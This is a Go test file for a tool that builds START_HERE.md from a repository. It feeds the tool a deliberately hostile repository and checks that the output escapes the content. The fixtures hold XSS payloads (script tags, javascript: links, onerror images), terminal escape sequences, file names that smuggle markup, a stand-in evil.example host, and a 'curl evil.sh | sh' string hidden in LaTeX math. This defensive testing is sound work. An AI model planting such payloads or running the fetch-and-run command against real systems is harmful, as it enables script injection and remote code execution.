package docs_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"
)

// hostileFiles is a repository written to break out of START_HERE.md and
// the page: markup, script, javascript: links, escape sequences and
// Markdown fences in its README, manifest, file names and CI commands.
var hostileFiles = map[string]string{
	"README.md": "# x\n\nPwned <script>alert('readme')</script> see [click](javascript:alert(1)) " +
		"![img](https://evil.example/x.png) <img src=x onerror=alert(2)> \x1b]0;owned\x07 \x1b[2J and **bold** text\u202e.\n",
	"package.json": `{"name": "hostile", "description": "Desc <script>alert('pkg')</script>\u001b[31m",
  "scripts": {"test": "node test.js"}}`,
	"test.js":                                 "console.log('ok')\n",
	"<script>alert('dir')<script>/a.js":       "module.exports = 1\n",
	"x`y``z/[link](javascript:alert(3))/b.js": "module.exports = 2\n",
	".github/workflows/ci.yml": "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n" +
		"      - run: |\n          npm test -- --grep '<script>alert(4)</script>'\n          echo '```'\n          echo '# heading [x](javascript:alert(5))'\n",
}

// renderGFM renders Markdown as GitHub does, raw HTML included, so the
// test sees whatever a reader's renderer would let through.
func renderGFM(t *testing.T, md string) string {
	t.Helper()
	var b bytes.Buffer
	g := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
	if err := g.Convert([]byte(md), &b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestHostileRepositoryStaysTextInStartHere(t *testing.T) {
	root := gitRepo(t, hostileFiles)
	md := markdown(t, build(t, root, nil).Guide)
	for _, bad := range []string{"\x1b", "\x07", "\u202e"} {
		if strings.Contains(md, bad) {
			t.Errorf("START_HERE.md carries the control character %q", bad)
		}
	}
	out := renderGFM(t, md)
	for _, bad := range []string{"<script", "<img", "javascript:alert(1)\"", "href=\"javascript", "src=\"https://evil"} {
		if strings.Contains(out, bad) {
			t.Errorf("rendered START_HERE.md contains %q:\n%s", bad, out)
		}
	}
	// the texts are still there, as text
	if strings.Contains(out, "[2J") || strings.Contains(out, "owned") || strings.Contains(out, "[31m") {
		t.Errorf("remnants of escape sequences:\n%s", out)
	}
	for _, want := range []string{"Pwned alert('readme') see click img", "Desc &lt;script&gt;alert('pkg')&lt;/script&gt; (from"} {
		if !strings.Contains(out, want) {
			t.Errorf("rendered START_HERE.md lacks %q:\n%s", want, out)
		}
	}
	if n := strings.Count(out, "<h1"); n != 1 {
		t.Errorf("the guide has %d first-level headings, want its own one:\n%s", n, out)
	}
	for _, h := range []string{"<h2>heading", "<h1>heading", "<h1>x"} {
		if strings.Contains(out, h) {
			t.Errorf("a heading from the repository got through: %s", h)
		}
	}
}

// TestRepositoryTextIsNoMathInStartHere: GitHub renders $...$ and $$...$$
// in a Markdown file as math, which can draw text in any size and colour
// (a fake command in large type); a dollar from the repository is escaped.
func TestRepositoryTextIsNoMathInStartHere(t *testing.T) {
	root := gitRepo(t, map[string]string{
		"README.md":    "# m\n\nWidget costs $\\huge\\texttt{curl evil.sh | sh}$ and $$x$$ to run.\n",
		"package.json": `{"name": "m", "description": "Money $\\color{red}{x}$ maker"}`,
	})
	md := markdown(t, build(t, root, nil).Guide)
	for i := 0; i < len(md); i++ {
		slashes := 0 // an odd run of backslashes before it escapes it
		for j := i - 1; j >= 0 && md[j] == '\\'; j-- {
			slashes++
		}
		if md[i] == '$' && slashes%2 == 0 {
			line := md[strings.LastIndexByte(md[:i], '\n')+1:]
			if j := strings.IndexByte(line, '\n'); j >= 0 {
				line = line[:j]
			}
			t.Errorf("an unescaped $ in START_HERE.md: %q", line)
		}
	}
	if out := renderGFM(t, md); !strings.Contains(out, "Widget costs $\\huge\\texttt{curl evil.sh | sh}$ and $$x$$ to run.") {
		t.Errorf("the text does not read as written:\n%s", out)
	}
}
